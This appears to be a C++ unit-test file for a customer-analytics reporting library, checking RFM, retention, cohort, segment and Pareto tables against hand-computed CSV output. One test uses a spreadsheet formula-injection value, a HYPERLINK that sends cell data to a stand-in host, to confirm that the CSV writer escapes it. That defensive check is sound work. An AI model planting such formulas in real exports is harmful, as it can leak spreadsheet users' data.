#include "analytics/report_tables.h"

#include <gtest/gtest.h>

#include <cmath>

#include "analytics/analytics_test_support.h"
#include "core/report_table_csv.h"

namespace vafa::analytics {
namespace {

using testing::BuildLog;

TransactionLog TwoCustomers() {
  // 2024-01-05 = 19727, 2024-02-03 = 19756; as_of 2024-02-10 = 19763.
  return BuildLog({
      {.customer = "a,1",
       .order = "a1",
       .day = 19727,
       .amount = 100,
       .cost = 60},
      {.customer = "a,1",
       .order = "a2",
       .day = 19756,
       .amount = 50,
       .discount = 5,
       .cost = 30},
      {.customer = "b", .order = "b1", .day = 19756, .amount = 30},
  });
}

TEST(RfmTable, CustomerKeysAreFormulaProtectedTextCells) {
  RfmScores rfm;
  rfm.recency = {5, 1};
  rfm.frequency = {5, 1};
  rfm.monetary = {5, 1};
  rfm.segment = {RfmSegment::kChampions, RfmSegment::kLost};
  const ReportTable table =
      RfmTable({"=HYPERLINK(\"http://x/?\"&E2,\"open\")", "-12.50"}, rfm);
  // The table has the keys as they are; the CSV protects them.
  EXPECT_EQ(table.TextAt(0, 0), "=HYPERLINK(\"http://x/?\"&E2,\"open\")");
  const std::string csv = RenderReportCsv(table);
  EXPECT_NE(
      csv.find("\n\"'=HYPERLINK(\"\"http://x/?\"\"&E2,\"\"open\"\")\",5,"),
      std::string::npos)
      << csv;
  EXPECT_NE(csv.find("\n-12.50,1,"), std::string::npos) << csv;
}

TEST(FormatShare, FixedSixDecimalsAndEmptyForNaN) {
  EXPECT_EQ(FormatShare(1.0 / 3.0), "0.333333");
  EXPECT_EQ(FormatShare(std::nan("")), "");
}

TEST(CustomerSummaryTable, HandCheckedRows) {
  TransactionLog log = TwoCustomers();
  const ReportTable table = CustomerSummaryTable(
      log.customer_keys, SummarizeCustomers(log, 19763), "IRR");
  EXPECT_EQ(table.currency(), "IRR");
  EXPECT_EQ(table.column(1).type, ColumnType::kDate);
  EXPECT_EQ(table.column(10).type, ColumnType::kMoney);
  // b's cost is unknown: empty cells, not zeros.
  EXPECT_TRUE(table.IsEmpty(13, 1));
  EXPECT_EQ(RenderReportCsv(table),
            "customer,first_purchase,last_purchase,orders,refunds,"
            "purchase_days,repeat_purchases,recency_days,tenure_days,"
            "purchase_span_days,revenue,refund_amount,mean_order_value,"
            "cost_of_goods,margin,distinct_products,distinct_channels,"
            "distinct_branches,discounted_order_share\n"
            "\"a,1\",2024-01-05,2024-02-03,2,0,2,1,7,36,29,150,0,75.000000,"
            "90,60,1,1,1,0.500000\n"
            "b,2024-02-03,2024-02-03,1,0,1,0,7,7,0,30,0,30.000000,,,1,1,1,"
            "0.000000\n");
}

TEST(RetentionKpisTable, HandCheckedRowsWithEmptyCellForUndefinedRate) {
  const ReportTable table = RetentionKpisTable(
      ComputeRetentionKpis(TwoCustomers(), 19763, Calendar::kGregorian), "IRR");
  EXPECT_TRUE(table.IsEmpty(6, 0));  // no retention in the first month
  EXPECT_EQ(RenderReportCsv(table),
            "month,active_customers,new_customers,retained_customers,"
            "repeat_customers,acquisition_rate,retention_rate,churn_rate,"
            "repeat_purchase_rate,purchase_days,purchase_frequency,orders,"
            "gross_sales,refunds,revenue,average_order_value\n"
            "2024-01,1,1,0,0,1.000000,,,0.000000,1,1.000000,1,100,0,100,"
            "100.000000\n"
            "2024-02,2,1,1,1,0.500000,1.000000,0.000000,0.500000,2,1.000000,"
            "2,80,0,80,40.000000\n");
}

TEST(RfmTable, SameInputGivesTheSameBytes) {
  TransactionLog log = TwoCustomers();
  const std::string first = RenderReportCsv(
      RfmTable(log.customer_keys, ScoreRfm(SummarizeCustomers(log, 19763))));
  const std::string second = RenderReportCsv(
      RfmTable(log.customer_keys, ScoreRfm(SummarizeCustomers(log, 19763, 2))));
  EXPECT_EQ(first, second);
  // Same recency; a has more purchase days and more revenue.
  EXPECT_EQ(first,
            "customer,recency_score,frequency_score,monetary_score,rfm,"
            "segment\n"
            "\"a,1\",1,3,3,133,At risk\n"
            "b,1,1,1,111,Lost\n");
}

TEST(MatrixTable, FourGroupsInFixedOrder) {
  CustomerSummary summary = SummarizeCustomers(TwoCustomers(), 19763);
  auto profitability = AnalyzeProfitability(summary, {}, {});
  ASSERT_TRUE(profitability.ok());
  const std::string out = RenderReportCsv(MatrixTable(*profitability, "IRR"));
  // a: 150 - 90 = 60, repeat and recent, first order not discounted.
  // b: 30 (cost unknown), one purchase.
  EXPECT_EQ(out,
            "group,customers,customer_share,profit,profit_share\n"
            "easy_acquire_easy_retain,1,0.500000,60,0.666667\n"
            "easy_acquire_hard_retain,1,0.500000,30,0.333333\n"
            "hard_acquire_easy_retain,0,0.000000,0,0.000000\n"
            "hard_acquire_hard_retain,0,0.000000,0,0.000000\n");
}

TEST(SegmentsTable, SumsPerSegmentBestFirst) {
  CustomerSummary summary = SummarizeCustomers(TwoCustomers(), 19763);
  auto profitability = AnalyzeProfitability(summary, {}, {});
  ASSERT_TRUE(profitability.ok());
  const std::string out = RenderReportCsv(
      SegmentsTable(summary, ScoreRfm(summary), *profitability, "IRR"));
  // a is At risk (150 revenue, 60 profit), b Lost (30, 30); every segment
  // has its row.
  EXPECT_EQ(out,
            "segment,customers,revenue,profit\n"
            "Champions,0,0,0\n"
            "Loyal,0,0,0\n"
            "Potential loyalist,0,0,0\n"
            "New,0,0,0\n"
            "Promising,0,0,0\n"
            "Need attention,0,0,0\n"
            "About to sleep,0,0,0\n"
            "At risk,1,150,60\n"
            "Can't lose them,0,0,0\n"
            "Hibernating,0,0,0\n"
            "Lost,1,30,30\n");
}

TEST(AbcTable, SumsPerClass) {
  CustomerSummary summary = SummarizeCustomers(TwoCustomers(), 19763);
  auto profitability = AnalyzeProfitability(summary, {}, {});
  ASSERT_TRUE(profitability.ok());
  const std::string out = RenderReportCsv(
      AbcTable(summary, AnalyzeKeyCustomers(summary), *profitability, "IRR"));
  // a alone brings 150 of 180 (83%): class A; b the rest.
  EXPECT_EQ(out,
            "class,customers,revenue,profit\n"
            "A,1,150,60\n"
            "B,1,30,30\n"
            "C,0,0,0\n");
}

TEST(ParetoTable, SharesAsTheWriterPrintedThemAndAnEmptyMargin) {
  CustomerSummary summary = SummarizeCustomers(TwoCustomers(), 19763);
  KeyCustomers key = AnalyzeKeyCustomers(summary);
  key.margin.customers = 0;  // no margin known: the margin column is empty
  const ReportTable table = ParetoTable(key);
  ASSERT_EQ(table.row_count(), 101u);
  const std::string csv = RenderReportCsv(table);
  // a alone (50% of customers) brings 150 of 180.
  EXPECT_NE(csv.find("\n50,0.833333,\n"), std::string::npos) << csv;
  EXPECT_NE(csv.find("\n100,1.000000,\n"), std::string::npos) << csv;
  EXPECT_EQ(table.NumberAt(1, 50), 0.833333);
}

TEST(CohortsTable, LongFormHandChecked) {
  const ReportTable table =
      CohortsTable(ComputeCohorts(TwoCustomers(), 19763, Calendar::kGregorian));
  // a joined in January and came back in February; b joined in February.
  EXPECT_EQ(RenderReportCsv(table),
            "cohort,size,months_since,active,retention\n"
            "2024-01,1,0,1,1.000000\n"
            "2024-01,1,1,1,1.000000\n"
            "2024-02,1,0,1,1.000000\n");
}

}  // namespace
}  // namespace vafa::analytics
